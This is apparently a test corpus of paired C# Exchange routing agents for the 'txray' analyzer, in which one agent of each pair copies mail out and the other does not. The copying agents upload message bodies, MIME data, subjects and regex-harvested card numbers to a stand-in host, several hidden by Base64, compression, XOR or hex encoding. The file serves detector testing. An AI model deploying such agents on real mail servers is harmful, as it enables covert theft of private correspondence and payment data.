// Pairs written for txray: two agents that differ in one thing, the first does it and the second does not.
// Text, bytes and streams.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are documentation addresses. What a correct analysis says about each stands in samples/pairs-*.json.
using System;
using System.Diagnostics;
using System.IO;
using System.IO.Compression;
using System.Net;
using System.Net.Sockets;
using System.Security.Cryptography;
using System.Text;
using System.Text.RegularExpressions;
using Microsoft.Exchange.Data.Mime;
using Microsoft.Exchange.Data.TextConverters;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;
using Microsoft.Exchange.Data.Transport.Smtp;

// 51: a string builder, and its length
namespace Txray.Pairs.P51
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var text = new StringBuilder("mail: ");
            text.Append(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd()).AppendLine();
            text.AppendFormat("{0} attachments", e.MailItem.Message.Attachments.Count);
            new WebClient().UploadString("https://collect.example.invalid/pair", text.ToString());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var text = new StringBuilder("mail: ");
            text.Append(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd()).AppendLine();
            new WebClient().UploadString("https://collect.example.invalid/pair", "mail of " + text.Length + " letters");
        }
    }
}

// 52: a formatted text
namespace Txray.Pairs.P52
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string body = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            new WebClient().UploadString("https://collect.example.invalid/pair",
                $"{DateTime.UtcNow:o} {e.MailItem.Message.Attachments.Count} {body}");
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            string body = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            new WebClient().UploadString("https://collect.example.invalid/pair",
                $"{DateTime.UtcNow:o} {e.MailItem.Message.Attachments.Count} {body.Length}");
        }
    }
}

// 53: encoded text, and an encoded constant
namespace Txray.Pairs.P53
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            byte[] text = Encoding.UTF8.GetBytes(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            byte[] key = Encoding.UTF8.GetBytes("pair");
            Trace.WriteLine(Convert.ToBase64String(key));
            new WebClient().UploadString("https://collect.example.invalid/pair", Convert.ToBase64String(text));
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            byte[] text = Encoding.UTF8.GetBytes(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            byte[] key = Encoding.UTF8.GetBytes("pair");
            Trace.WriteLine(text.Length.ToString());
            new WebClient().UploadString("https://collect.example.invalid/pair", Convert.ToBase64String(key));
        }
    }
}

// 54: compressed mail, and a compressed file that is read
namespace Txray.Pairs.P54
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var memory = new MemoryStream();
            using (var zip = new DeflateStream(memory, CompressionMode.Compress))
            {
                e.MailItem.GetMimeReadStream().CopyTo(zip);
            }
            new WebClient().UploadData("https://collect.example.invalid/pair", memory.ToArray());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var rules = new MemoryStream();
            using (var zip = new DeflateStream(File.OpenRead("rules.bin"), CompressionMode.Decompress))
            {
                zip.CopyTo(rules);
            }
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            Trace.WriteLine(memory.Length.ToString());
            new WebClient().UploadData("https://collect.example.invalid/pair", rules.ToArray());
        }
    }
}

// 55: an encrypting stream over a file, and over memory that is dropped
namespace Txray.Pairs.P55
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            using (Aes aes = Aes.Create())
            using (FileStream file = File.Create(@"C:\Pairs\mail.bin"))
            using (var crypt = new CryptoStream(file, aes.CreateEncryptor(), CryptoStreamMode.Write))
            {
                e.MailItem.GetMimeReadStream().CopyTo(crypt);
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            using (Aes aes = Aes.Create())
            using (FileStream file = File.Create(@"C:\Pairs\mail.bin"))
            using (var crypt = new CryptoStream(new MemoryStream(), aes.CreateEncryptor(), CryptoStreamMode.Write))
            {
                e.MailItem.GetMimeReadStream().CopyTo(crypt);
                file.Write(aes.IV, 0, aes.IV.Length);
            }
        }
    }
}

// 56: a stream that hashes: the content behind it, and the hash of it
namespace Txray.Pairs.P56
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var memory = new MemoryStream();
            using (SHA1 hash = SHA1.Create())
            using (var crypt = new CryptoStream(memory, hash, CryptoStreamMode.Write))
            {
                e.MailItem.GetMimeReadStream().CopyTo(crypt);
                crypt.FlushFinalBlock();
                new WebClient().UploadData("https://collect.example.invalid/pair", memory.ToArray());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            using (SHA1 hash = SHA1.Create())
            using (var crypt = new CryptoStream(Stream.Null, hash, CryptoStreamMode.Write))
            {
                e.MailItem.GetMimeReadStream().CopyTo(crypt);
                crypt.FlushFinalBlock();
                new WebClient().UploadData("https://collect.example.invalid/pair", hash.Hash);
            }
        }
    }
}

// 57: lines through a writer over a socket, and their lengths
namespace Txray.Pairs.P57
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var client = new TcpClient("collect.example.invalid", 443);
            using (var reader = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()))
            using (var writer = new StreamWriter(client.GetStream()))
            {
                string line;
                while ((line = reader.ReadLine()) != null)
                {
                    writer.WriteLine(line);
                }
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var client = new TcpClient("collect.example.invalid", 443);
            using (var reader = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()))
            using (var writer = new StreamWriter(client.GetStream()))
            {
                string line;
                while ((line = reader.ReadLine()) != null)
                {
                    writer.WriteLine(line.Length);
                }
            }
        }
    }
}

// 58: a document that writes itself, and an empty one
namespace Txray.Pairs.P58
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            using (FileStream file = File.Create(@"C:\Pairs\mail.eml"))
            {
                e.MailItem.Message.MimeDocument.WriteTo(file);
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            Trace.WriteLine(e.MailItem.Message.MimeDocument.Version.ToString());
            using (FileStream file = File.Create(@"C:\Pairs\mail.eml"))
            {
                new MimeDocument().WriteTo(file);
            }
        }
    }
}

// 59: a converter of Exchange between two streams
namespace Txray.Pairs.P59
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var memory = new MemoryStream();
            new HtmlToText().Convert(e.MailItem.Message.Body.GetContentReadStream(), memory);
            new WebClient().UploadData("https://collect.example.invalid/pair", memory.ToArray());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var memory = new MemoryStream();
            var page = new MemoryStream(Encoding.ASCII.GetBytes("<p>an empty page</p>"));
            new HtmlToText().Convert(page, memory);
            Trace.WriteLine(e.MailItem.Message.Body.GetContentReadStream().Length.ToString());
            new WebClient().UploadData("https://collect.example.invalid/pair", memory.ToArray());
        }
    }
}

// 60: a binary writer over a file
namespace Txray.Pairs.P60
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            using (var writer = new BinaryWriter(File.OpenWrite(@"C:\Pairs\mail.dat")))
            {
                writer.Write(e.MailItem.Recipients.Count);
                writer.Write(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            using (var writer = new BinaryWriter(File.OpenWrite(@"C:\Pairs\mail.dat")))
            {
                writer.Write(e.MailItem.Recipients.Count);
                writer.Write(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd().Length);
            }
        }
    }
}

// 61: what a pattern found, and where
namespace Txray.Pairs.P61
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (Match match in Regex.Matches(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd(), "card ([0-9]+)"))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", match.Groups[1].Value);
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            foreach (Match match in Regex.Matches(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd(), "card ([0-9]+)"))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", match.Index.ToString());
            }
        }
    }
}

// 62: masked bytes, and a buffer of the same length
namespace Txray.Pairs.P62
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            byte[] mail = memory.ToArray();
            for (int i = 0; i < mail.Length; i++)
            {
                mail[i] = (byte)(mail[i] ^ (0x5a + (i & 7)));
            }
            new WebClient().UploadData("https://collect.example.invalid/pair", mail);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            var filler = new byte[memory.ToArray().Length];
            for (int i = 0; i < filler.Length; i++)
            {
                filler[i] = (byte)(0x5a + (i & 7));
            }
            new WebClient().UploadData("https://collect.example.invalid/pair", filler);
        }
    }
}

// 63: letters written as hexadecimal numbers, and a number that counts them
namespace Txray.Pairs.P63
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var text = new StringBuilder();
            foreach (char letter in e.MailItem.Message.Subject)
            {
                text.Append(((int)letter).ToString("x4"));
            }
            new WebClient().UploadString("https://collect.example.invalid/pair", text.ToString());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            int count = 0;
            foreach (char letter in e.MailItem.Message.Subject)
            {
                count += char.IsLetter(letter) ? 1 : 0;
            }
            new WebClient().UploadString("https://collect.example.invalid/pair", count.ToString("x4"));
        }
    }
}

// 64: an entry of an archive, and only its name
namespace Txray.Pairs.P64
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            using (FileStream file = File.Create(@"C:\Pairs\mail.zip"))
            using (var archive = new ZipArchive(file, ZipArchiveMode.Create))
            using (Stream entry = archive.CreateEntry("mail.txt").Open())
            {
                e.MailItem.Message.Body.GetContentReadStream().CopyTo(entry);
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            using (FileStream file = File.Create(@"C:\Pairs\mail.zip"))
            using (var archive = new ZipArchive(file, ZipArchiveMode.Create))
            using (Stream entry = archive.CreateEntry("mail.txt").Open())
            {
                Trace.WriteLine(e.MailItem.Message.Body.GetContentReadStream().Length.ToString());
                entry.WriteByte(1);
            }
        }
    }
}
